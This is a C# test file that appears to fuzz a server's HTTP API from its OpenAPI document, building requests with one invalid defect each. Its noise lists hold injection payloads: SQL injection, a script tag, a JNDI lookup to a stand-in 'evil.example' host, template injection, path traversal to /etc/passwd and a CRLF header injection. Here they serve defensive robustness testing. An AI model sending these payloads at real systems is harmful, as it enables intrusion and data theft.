using System.Globalization;
using System.Text;
using System.Text.Json;
using Microsoft.AspNetCore.WebUtilities;

namespace Tessera.Server.Tests.Http;

/// <summary>One operation of the OpenAPI document: its method, path template, parameters and request body schema.</summary>
public sealed record ApiOperation(string Method, string Path, IReadOnlyList<ApiParameter> Parameters, JsonElement? Body)
{
    public override string ToString() => $"{Method} {Path}";

    public bool HasPathId => Parameters.Any(p => p.In == "path");

    public ApiParameter? Query(string name) => Parameters.FirstOrDefault(p => p.In == "query" && p.Name.Equals(name, StringComparison.OrdinalIgnoreCase));

    /// <summary>Every operation of the document, in its order.</summary>
    public static List<ApiOperation> All(JsonElement document)
    {
        var operations = new List<ApiOperation>();
        foreach (var path in document.GetProperty("paths").EnumerateObject())
        {
            foreach (var operation in path.Value.EnumerateObject().Where(o => o.Name is "get" or "post" or "put" or "patch" or "delete"))
            {
                var parameters = operation.Value.TryGetProperty("parameters", out var list)
                    ? list.EnumerateArray().Select(p => new ApiParameter(p.GetProperty("name").GetString()!, p.GetProperty("in").GetString()!,
                        p.TryGetProperty("schema", out var schema) ? schema : default)).ToList()
                    : [];
                JsonElement? body = operation.Value.TryGetProperty("requestBody", out var requestBody)
                    && requestBody.GetProperty("content").TryGetProperty("application/json", out var json)
                    ? json.GetProperty("schema")
                    : null;
                operations.Add(new ApiOperation(operation.Name.ToUpperInvariant(), path.Name, parameters, body));
            }
        }

        return operations;
    }
}

public sealed record ApiParameter(string Name, string In, JsonElement Schema)
{
    public string? Format => Schema.ValueKind == JsonValueKind.Object && Schema.TryGetProperty("format", out var f) ? f.GetString() : null;
}

/// <summary>What the generator may use as existing ids and names: rows the test arranged before the run.</summary>
public sealed record KnownRows(IReadOnlyList<Guid> Users, IReadOnlyList<Guid> Roles, IReadOnlyList<Guid> Groups, IReadOnlyList<Guid> Customers, IReadOnlyList<string> RoleNames, IReadOnlyList<string> Privileges);

/// <summary>A generated request, and how it was made hostile (for the failure report).</summary>
public sealed record HostileRequest(int Index, ApiOperation Operation, string Method, string Url, string? ContentType, string? Body, IReadOnlyList<string> Defects)
{
    public HttpRequestMessage ToMessage()
    {
        var message = new HttpRequestMessage(new HttpMethod(Method), Url);
        if (Body is not null)
        {
            message.Content = new ByteArrayContent(Encoding.UTF8.GetBytes(Body));
            if (ContentType is not null)
            {
                message.Content.Headers.TryAddWithoutValidation("Content-Type", ContentType);
            }
        }

        return message;
    }

    public override string ToString()
    {
        var body = Body is null ? "(no body)" : Body.Length > 1500 ? Body[..1500] + $"... ({Body.Length} characters)" : Body;
        return $"#{Index} {Method} {(Url.Length > 1500 ? Url[..1500] + "..." : Url)}\n  made hostile by: {string.Join("; ", Defects)}\n  Content-Type: {ContentType ?? "(none)"}\n  body: {Escape(body)}";
    }

    private static string Escape(string text) => string.Concat(text.Select(c => char.IsControl(c) || char.IsSurrogate(c) ? $"\\u{(int)c:x4}" : c.ToString()));
}

/// <summary>
/// Builds hostile requests for an operation of the OpenAPI document, from a seeded generator.
/// </summary>
/// <remarks>
/// Every request is invalid in at least one way that Tessera must refuse whatever else the request holds (its
/// "defect"): a path id that is not a GUID or names nothing; a control character in a query value; a cursor no
/// listing handed out; a limit out of range or a typed parameter that does not parse; and in a body, an unknown or
/// repeated member, a null list element, a control character or lone surrogate in a string, a value or root of the
/// wrong JSON type, JSON cut short or nested too deep, an empty body or another content type, or a string longer than
/// any field takes. So no request may succeed, and none may change a row. Around the defect goes noise that is not
/// invalid in itself: hostile but printable strings (SQL, markup, confusables, emoji, right-to-left marks), nulls,
/// long lists, existing and unknown ids, extreme numbers.
/// </remarks>
public sealed class HostileRequests(KnownRows known, JsonElement document)
{
    /// <summary>
    /// Operations that answer any well-formed request alike and change nothing: whether a user may do something
    /// (a too-long privilege name is simply not held), and the forgotten-password form (the same answer for every
    /// address, by design). For them an over-long string is noise, not a defect.
    /// </summary>
    private static readonly HashSet<string> SameAnswerForAnyWellFormedRequest = ["POST /api/v1/authorize", "POST /api/v1/password/forgot"];

    private static readonly string[] ControlStrings = ["a\0b", "\0", "line\r\nBcc: victim@example.com", "tab\there", "esc\u001b[31mred", "nel\u0085", "del\u007f", "\u0001\u0002\u0003", "bell\u0007"];

    private static readonly string[] NoiseStrings =
    [
        "' OR '1'='1' --", "\"; DROP TABLE users; --", "%", "_", "%_%", "\\", "\\\\'", "*", "a*", "<script>alert(1)</script>", "${jndi:ldap://evil.example/a}",
        "{{7*7}}", "../../etc/passwd", "Admіnistrator", "ADMINISTRATOR", "administrator ", " ", "", "null", "true", "0", "-1", "1e309", "NaN",
        "😀😀😀", "e\u0301", "\u202eevil", "zero\u200bwidth", "\ufeffbom", "ı", "ß", "İstanbul", "日本語", "a@b", "@", "x@x.x", "VIEW_USERS", "System",
        "00000000-0000-0000-0000-000000000000", "allow", "deny", "api", "backoffice", "all", "assigned", "merge", "replace", "disabled", "active",
    ];

    /// <remarks>
    /// No NUL: the test host cannot carry one in a path (it throws before the request starts), and Kestrel refuses such a
    /// request line itself with a 400 before Tessera sees it. Other control characters are tried.
    /// </remarks>
    private static readonly string[] BadPathIds = ["not-a-guid", "0", "-1", "\u0001", "\r\n", "00000000-0000-0000-0000-00000000000g", "..%2F..%2Fetc", "' OR 1=1 --", "😀", new string('f', 2000), "{id}"];

    /// <summary>Cursors no listing hands out, whatever its sort: garbled, of another shape, or holding values out of range.</summary>
    private static readonly string[] BadCursors =
    [
        "!!", "-1", "****", "%ZZ", "99999999999999999999999",
        Encode(JsonSerializer.Serialize(new[] { "createdAt", "9223372036854775807", "A" })),
        Encode(JsonSerializer.Serialize(new[] { "createdAt", "-9223372036854775808", "A" })),
        Encode(JsonSerializer.Serialize(new[] { "username", "\0", "A" })),
        Encode("""["username","\ud800","A"]"""),
        Encode("[1,2,3]"), Encode("{}"), Encode("9223372036854775807:not-a-guid"), Encode("no spaces allowed"),
    ];

    private static string Encode(string text) => WebEncoders.Base64UrlEncode(Encoding.UTF8.GetBytes(text));

    private enum Defect
    {
        BadPathId, UnknownPathId, ControlInQuery, BadCursor, LimitOutOfRange, UnparsableQueryValue,
        UnknownMember, RepeatedMember, NullElement, ControlInString, LoneSurrogate, WrongMemberType, WrongRootType,
        CutShort, TooDeep, EmptyBody, OtherContentType, TooLong,
    }

    public HostileRequest Create(int index, ApiOperation operation, Random random)
    {
        var defects = new List<string>();
        Node? body = null;
        if (operation.Body is { } schema)
        {
            body = Value(schema, "", random, depth: 0);
            AddNoise(body, random, defects);
        }

        var defect = PickDefect(operation, body, random);
        defects.Insert(0, defect.ToString());

        var path = operation.Path;
        foreach (var parameter in operation.Parameters.Where(p => p.In == "path"))
        {
            var value = defect switch
            {
                Defect.BadPathId => random.Pick(BadPathIds),
                Defect.UnknownPathId => Guid.NewGuid().ToString(),
                _ => ExistingId(path, random).ToString(),
            };
            path = path.Replace("{" + parameter.Name + "}", Uri.EscapeDataString(value), StringComparison.Ordinal);
        }

        var url = path + QueryString(operation, defect, random, defects);
        if (body is null)
        {
            return new HostileRequest(index, operation, operation.Method, url, null, null, defects);
        }

        var contentType = "application/json";
        string text;
        switch (defect)
        {
            case Defect.UnknownMember:
                text = Render(WithUnknownMember(body, random, defects));
                break;
            case Defect.RepeatedMember:
                text = Render(WithRepeatedMember(body, random, defects));
                break;
            case Defect.NullElement:
                var list = random.Pick(ArrayNodes(body));
                list.Items.Insert(random.Next(list.Items.Count + 1), new Raw("null"));
                defects.Add("null list element");
                text = Render(body);
                break;
            case Defect.ControlInString:
                // Descriptions may hold tabs and line breaks, so they get one of the other control characters.
                var control = random.Pick(ControlStrings);
                SetString(body, random, defects, slot => slot.Equals("description", StringComparison.OrdinalIgnoreCase) ? random.Pick(ControlStrings.Where(c => c.Any(x => char.IsControl(x) && x is not ('\t' or '\r' or '\n'))).ToList()) : control, "control characters");
                text = Render(body);
                break;
            case Defect.LoneSurrogate:
                SetString(body, random, defects, _ => random.Pick(["\ud800", "a\udc00b", "x\ud83d"]), "lone surrogate");
                text = Render(body);
                break;
            case Defect.TooLong:
                SetString(body, random, defects, _ => new string(random.Pick(['a', 'é', '9', '-']), random.Pick([1_001, 5_000, 100_000])), "too long");
                text = Render(body);
                break;
            case Defect.WrongMemberType:
                text = Render(WithWrongType(body, random, defects));
                break;
            case Defect.WrongRootType:
                text = random.Pick(["[]", "[{}]", "\"text\"", "42", "true", "null", "-0.5e3"]);
                break;
            case Defect.CutShort:
                var full = Render(body);
                text = full[..random.Next(1, full.Length - 1)];
                break;
            case Defect.TooDeep:
                var depth = random.Next(70, 400);
                text = "{\"" + random.Pick(["name", "roles", "x"]) + "\":" + new string('[', depth) + new string(']', depth) + "}";
                break;
            case Defect.EmptyBody:
                text = random.Pick(["", " ", "\n"]);
                break;
            case Defect.OtherContentType:
                text = Render(body);
                contentType = random.Pick(["text/plain", "application/xml", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/jsonx", "*/*"]);
                defects.Add($"Content-Type {contentType}");
                break;
            default:
                text = Render(body);
                break;
        }

        return new HostileRequest(index, operation, operation.Method, url, contentType, text, defects);
    }

    /// <summary>One defect among those the operation and its (noisy) body allow.</summary>
    private static Defect PickDefect(ApiOperation operation, Node? body, Random random)
    {
        var choices = new List<Defect> { Defect.ControlInQuery };
        if (operation.HasPathId)
        {
            choices.AddRange([Defect.BadPathId, Defect.UnknownPathId, Defect.UnknownPathId]);
        }

        if (operation.Query("cursor") is not null)
        {
            choices.AddRange([Defect.BadCursor, Defect.BadCursor]);
        }

        if (operation.Query("limit") is not null)
        {
            choices.Add(Defect.LimitOutOfRange);
        }

        if (operation.Parameters.Any(p => p.In == "query" && Typed(p)))
        {
            choices.Add(Defect.UnparsableQueryValue);
        }

        if (body is Obj obj)
        {
            choices.AddRange([Defect.UnknownMember, Defect.UnknownMember, Defect.WrongRootType, Defect.CutShort, Defect.TooDeep, Defect.EmptyBody, Defect.OtherContentType]);
            if (obj.Members.Count > 0)
            {
                choices.AddRange([Defect.RepeatedMember, Defect.WrongMemberType]);
            }

            if (ArrayNodes(body).Count > 0)
            {
                choices.AddRange([Defect.NullElement, Defect.NullElement]);
            }

            if (StringSlots(body).Count > 0)
            {
                choices.AddRange([Defect.ControlInString, Defect.ControlInString, Defect.LoneSurrogate]);
                if (!SameAnswerForAnyWellFormedRequest.Contains(operation.ToString()))
                {
                    choices.AddRange([Defect.TooLong, Defect.TooLong]);
                }
            }
        }

        return random.Pick(choices);
    }

    private static bool Typed(ApiParameter parameter)
        => parameter.Format is "int32" or "int64" or "uuid" or "date-time";

    private string QueryString(ApiOperation operation, Defect defect, Random random, List<string> defects)
    {
        var pairs = new List<(string Name, string Value)>();
        foreach (var parameter in operation.Parameters.Where(p => p.In == "query"))
        {
            if (random.NextDouble() < 0.4)
            {
                pairs.Add((parameter.Name, PlausibleQueryValue(parameter, random)));
            }
        }

        if (random.NextDouble() < 0.3)
        {
            pairs.Add((random.Pick(["foo", "sort", "q", "x[]", "limit", "_", "$filter"]), random.Pick(NoiseStrings)));
        }

        void Set(string name, string value)
        {
            pairs.RemoveAll(p => p.Name.Equals(name, StringComparison.OrdinalIgnoreCase));
            pairs.Add((name, value));
        }

        switch (defect)
        {
            case Defect.ControlInQuery:
                var target = operation.Parameters.Where(p => p.In == "query").Select(p => p.Name).Append(random.Pick(["foo", "returnTo", "q"])).ToList();
                var name = random.Pick(target);
                Set(name, random.Pick(ControlStrings));
                defects.Add($"query {name}");
                break;
            case Defect.BadCursor:
                var cursor = random.Pick(BadCursors);
                Set(operation.Query("cursor")!.Name, cursor);
                defects.Add($"cursor {cursor}");
                break;
            case Defect.LimitOutOfRange:
                Set(operation.Query("limit")!.Name, random.Pick(["0", "-1", "201", "1000000", "2147483647", "-2147483648"]));
                break;
            case Defect.UnparsableQueryValue:
                var typed = random.Pick(operation.Parameters.Where(p => p.In == "query" && Typed(p)).ToList());
                Set(typed.Name, random.Pick(["abc", "9999999999999999999999", "2026-13-45", "not-a-guid", "{}", "😀", "0x10"]));
                defects.Add($"query {typed.Name} unparsable");
                break;
        }

        return pairs.Count == 0 ? "" : "?" + string.Join("&", pairs.Select(p => Uri.EscapeDataString(p.Name) + "=" + Uri.EscapeDataString(p.Value)));
    }

    private string PlausibleQueryValue(ApiParameter parameter, Random random) => (parameter.Format, parameter.Name.ToLowerInvariant()) switch
    {
        ("int32", _) => random.Pick(["1", "2", "50", "200"]),
        ("uuid", _) => random.Pick(known.Users).ToString(),
        ("date-time", _) => random.Pick(["2026-01-01", "2026-01-01T00:00:00Z", "1900-01-01", "9999-12-31T23:59:59Z"]),
        (_, "sort") => random.Pick(["username", "-email", "createdAt", "-createdAt", "firstName", "lastName"]),
        (_, "type") => random.Pick(["api", "backoffice"]),
        (_, "status") => random.Pick(["active", "disabled", "locked", "invited"]),
        (_, "role" or "names") => random.Pick(known.RoleNames),
        (_, "mode") => random.Pick(["merge", "replace"]),
        _ => random.Pick(NoiseStrings),
    };

    private Guid ExistingId(string path, Random random)
    {
        var resource = path.Split('/', StringSplitOptions.RemoveEmptyEntries).TakeWhile(s => !s.StartsWith('{')).LastOrDefault();
        return resource switch
        {
            "roles" => random.Pick(known.Roles),
            "groups" => random.Pick(known.Groups),
            "customers" => random.Pick(known.Customers),
            _ => random.Pick(known.Users),
        };
    }

    // A small JSON model that, unlike a serializer, can hold repeated members, lone surrogates and values of any type.
    private abstract class Node;

    private sealed class Raw(string json) : Node
    {
        public string Json { get; } = json;
    }

    private sealed class Str(string value) : Node
    {
        public string Value { get; set; } = value;

        public string Member { get; init; } = "";
    }

    private sealed class Obj : Node
    {
        public List<KeyValuePair<string, Node>> Members { get; } = [];
    }

    private sealed class Arr : Node
    {
        public List<Node> Items { get; } = [];
    }

    private JsonElement Resolve(JsonElement schema)
    {
        while (schema.TryGetProperty("$ref", out var reference))
        {
            var name = reference.GetString()!.Split('/')[^1];
            schema = document.GetProperty("components").GetProperty("schemas").GetProperty(name);
        }

        return schema;
    }

    private static string MainType(JsonElement schema)
    {
        if (!schema.TryGetProperty("type", out var type))
        {
            return schema.TryGetProperty("properties", out _) ? "object" : "string";
        }

        return type.ValueKind == JsonValueKind.Array
            ? type.EnumerateArray().Select(t => t.GetString()!).Where(t => t != "null").OrderBy(t => t == "string" ? 1 : 0).FirstOrDefault() ?? "null"
            : type.GetString()!;
    }

    /// <summary>A plausible value for a schema: the shape the endpoint expects, with values near what it takes.</summary>
    private Node Value(JsonElement schema, string member, Random random, int depth)
    {
        schema = Resolve(schema);
        var format = schema.TryGetProperty("format", out var f) ? f.GetString() : null;
        switch (MainType(schema))
        {
            case "object":
                var obj = new Obj();
                if (schema.TryGetProperty("properties", out var properties))
                {
                    foreach (var property in properties.EnumerateObject())
                    {
                        if (depth < 3 && random.NextDouble() < 0.85)
                        {
                            obj.Members.Add(new(property.Name, Value(property.Value, property.Name, random, depth + 1)));
                        }
                    }
                }

                return obj;
            case "array":
                var array = new Arr();
                var items = schema.TryGetProperty("items", out var itemSchema) ? itemSchema : default;
                var count = depth < 3 && items.ValueKind == JsonValueKind.Object ? random.Next(0, 3) : 0;
                for (var i = 0; i < count; i++)
                {
                    array.Items.Add(Value(items, member, random, depth + 1));
                }

                // A list that is empty now still names its element type: the null-element defect needs a list to put a null in.
                return array;
            case "integer":
                return new Raw(random.Pick(["0", "1", "12", "64", "-1", "2147483647"]));
            case "number":
                return new Raw(random.Pick(["0", "1.5", "-3"]));
            case "boolean":
                return new Raw(random.NextDouble() < 0.5 ? "true" : "false");
            default:
                return format == "uuid"
                    ? new Str(IdFor(member, random)) { Member = member }
                    : new Str(PlausibleString(member, random)) { Member = member };
        }
    }

    private string IdFor(string member, Random random)
        => random.NextDouble() < 0.2 ? Guid.NewGuid().ToString()
            : member.Contains("customer", StringComparison.OrdinalIgnoreCase) ? random.Pick(known.Customers).ToString()
            : random.Pick(known.Users).ToString();

    private string PlausibleString(string member, Random random)
    {
        var tag = random.Next(100_000).ToString(CultureInfo.InvariantCulture);
        return member.ToLowerInvariant() switch
        {
            "name" or "username" or "reference" => $"fuzz-{tag}",
            "email" => $"fuzz-{tag}@example.com",
            "firstname" or "lastname" => "Fuzz",
            "description" => "A fuzzed description",
            "type" => random.Pick(["api", "backoffice"]),
            "status" => random.Pick(["active", "disabled"]),
            "credentialmode" => random.Pick(["password", "sso"]),
            "effect" => random.Pick(["allow", "deny"]),
            "scope" => random.Pick(["all", "assigned"]),
            "resource" => random.Pick(["orders", "orders:eu", "invoices"]),
            "action" or "actions" => random.Pick(["read", "write", "*"]),
            "privileges" or "privilege" => random.Pick(known.Privileges),
            "roles" => random.Pick(known.RoleNames),
            "groups" => random.Pick(["fuzz-group", "nobody"]),
            "password" or "newpassword" or "confirmpassword" or "currentpassword" => "Fuzz-Password-123456",
            "token" => "tok" + tag,
            _ => random.Pick(NoiseStrings),
        };
    }

    /// <summary>Noise: printable but hostile strings, nulls and long lists, none of which makes a request invalid by itself.</summary>
    private void AddNoise(Node body, Random random, List<string> defects)
    {
        var rounds = random.Next(0, 3);
        for (var i = 0; i < rounds; i++)
        {
            switch (random.Next(4))
            {
                case 0 when StringSlots(body) is { Count: > 0 } slots:
                    random.Pick(slots).Value = random.Pick(NoiseStrings);
                    defects.Add("noise: hostile string");
                    break;
                case 1 when body is Obj { Members.Count: > 0 } obj:
                    var at = random.Next(obj.Members.Count);
                    obj.Members[at] = new(obj.Members[at].Key, new Raw("null"));
                    defects.Add($"noise: {obj.Members[at].Key} null");
                    break;
                case 2 when ArrayNodes(body) is { Count: > 0 } arrays:
                    var array = random.Pick(arrays);
                    if (array.Items.Count > 0)
                    {
                        var copy = array.Items[0];
                        var extra = random.Pick([50, 1_000]);
                        for (var k = 0; k < extra; k++)
                        {
                            array.Items.Add(copy);
                        }

                        defects.Add($"noise: list of {array.Items.Count}");
                    }

                    break;
                case 3 when body is Obj obj:
                    foreach (var member in obj.Members.Where(m => m.Value is Raw { Json: not "null" }).ToList())
                    {
                        obj.Members[obj.Members.IndexOf(member)] = new(member.Key, new Raw(random.Pick(["-2147483648", "2147483647", "0", "-1"])));
                    }

                    break;
            }
        }
    }

    private static List<Str> StringSlots(Node node)
    {
        var found = new List<Str>();
        void Walk(Node n)
        {
            switch (n)
            {
                case Str s:
                    found.Add(s);
                    break;
                case Obj o:
                    o.Members.ForEach(m => Walk(m.Value));
                    break;
                case Arr a:
                    a.Items.ForEach(Walk);
                    break;
            }
        }

        Walk(node);
        return found;
    }

    private static List<Arr> ArrayNodes(Node node)
    {
        var found = new List<Arr>();
        void Walk(Node n)
        {
            switch (n)
            {
                case Obj o:
                    o.Members.ForEach(m => Walk(m.Value));
                    break;
                case Arr a:
                    found.Add(a);
                    a.Items.ForEach(Walk);
                    break;
            }
        }

        Walk(node);
        return found;
    }

    /// <summary>Puts a value (chosen for the member) into a string slot, or into a member of another type when there is none.</summary>
    private static void SetString(Node body, Random random, List<string> defects, Func<string, string> value, string what)
    {
        var slots = StringSlots(body);
        if (slots.Count > 0)
        {
            var slot = random.Pick(slots);
            slot.Value = value(slot.Member);
            defects.Add($"{what} in {slot.Member}");
        }
        else if (body is Obj obj && obj.Members.Count > 0)
        {
            var at = random.Next(obj.Members.Count);
            obj.Members[at] = new(obj.Members[at].Key, new Str(value(obj.Members[at].Key)));
            defects.Add($"{what} in {obj.Members[at].Key} (of another type there)");
        }
        else
        {
            throw new InvalidOperationException("a string defect was chosen for a body without a place for a string");
        }
    }

    private static Obj WithUnknownMember(Node body, Random random, List<string> defects)
    {
        var obj = body as Obj ?? throw new InvalidOperationException("an unknown member needs an object body");
        var known = obj.Members.Select(m => m.Key).ToList();
        var name = random.Next(3) switch
        {
            0 when known.Count > 0 => Misspell(random.Pick(known), random),
            1 => random.Pick(["permissions", "privilege", "rolez", "isAdmin", "id", "createdAt", "builtIn", "__proto__", "constructor", "$type", ""]),
            _ => "x" + random.Next(1000).ToString(CultureInfo.InvariantCulture),
        };
        if (known.Contains(name, StringComparer.OrdinalIgnoreCase))
        {
            name += "_";
        }

        obj.Members.Insert(random.Next(obj.Members.Count + 1), new(name, random.Pick<Node>([new Raw("true"), new Str("admin"), new Raw("null"), new Arr(), new Obj()])));
        defects.Add($"unknown member '{name}'");
        return obj;
    }

    private static string Misspell(string name, Random random)
    {
        if (name.Length < 2)
        {
            return name + "s";
        }

        var i = random.Next(name.Length - 1);
        return random.Next(3) switch
        {
            0 => name.Remove(i, 1),
            1 => string.Concat(name.AsSpan(0, i), name[i + 1].ToString(), name[i].ToString(), name.AsSpan(i + 2)),
            _ => name + "s",
        };
    }

    private static Obj WithRepeatedMember(Node body, Random random, List<string> defects)
    {
        var obj = (Obj)body;
        var original = random.Pick(obj.Members);
        var spelling = random.Next(3) == 0 ? char.ToUpperInvariant(original.Key[0]) + original.Key[1..] : original.Key;
        obj.Members.Add(new(spelling, original.Value));
        defects.Add($"member '{original.Key}' twice (as '{spelling}')");
        return obj;
    }

    private static Obj WithWrongType(Node body, Random random, List<string> defects)
    {
        var obj = body as Obj ?? throw new InvalidOperationException("a wrong member type needs an object body");
        if (obj.Members.Count == 0)
        {
            throw new InvalidOperationException("no member to give a wrong type");
        }

        var at = random.Next(obj.Members.Count);
        var (name, value) = (obj.Members[at].Key, obj.Members[at].Value);

        // Only values that no member of another type takes: objects and lists for scalars, scalars for lists and objects.
        Node wrong = value switch
        {
            Arr or Obj => random.Pick<Node>([new Str("x"), new Raw("42"), new Raw("true")]),
            _ => random.Pick<Node>([new Obj(), new Arr()]),
        };
        if (value is Raw { Json: "null" })
        {
            wrong = new Obj();
        }

        obj.Members[at] = new(name, wrong);
        defects.Add($"member '{name}' of the wrong type");
        return obj;
    }

    private static string Render(Node node)
    {
        var builder = new StringBuilder();
        Write(node, builder);
        return builder.ToString();
    }

    private static void Write(Node node, StringBuilder builder)
    {
        switch (node)
        {
            case Raw raw:
                builder.Append(raw.Json);
                break;
            case Str str:
                WriteString(str.Value, builder);
                break;
            case Arr arr:
                builder.Append('[');
                for (var i = 0; i < arr.Items.Count; i++)
                {
                    builder.Append(i == 0 ? "" : ",");
                    Write(arr.Items[i], builder);
                }

                builder.Append(']');
                break;
            case Obj obj:
                builder.Append('{');
                for (var i = 0; i < obj.Members.Count; i++)
                {
                    builder.Append(i == 0 ? "" : ",");
                    WriteString(obj.Members[i].Key, builder);
                    builder.Append(':');
                    Write(obj.Members[i].Value, builder);
                }

                builder.Append('}');
                break;
        }
    }

    /// <summary>A JSON string that escapes quotes, backslashes, control characters and surrogates, lone ones included.</summary>
    private static void WriteString(string value, StringBuilder builder)
    {
        builder.Append('"');
        foreach (var c in value)
        {
            if (c is '"' or '\\')
            {
                builder.Append('\\').Append(c);
            }
            else if (c < ' ' || char.IsSurrogate(c))
            {
                builder.Append("\\u").Append(((int)c).ToString("x4", CultureInfo.InvariantCulture));
            }
            else
            {
                builder.Append(c);
            }
        }

        builder.Append('"');
    }
}

internal static class RandomPicks
{
    public static T Pick<T>(this Random random, IReadOnlyList<T> items) => items[random.Next(items.Count)];
}
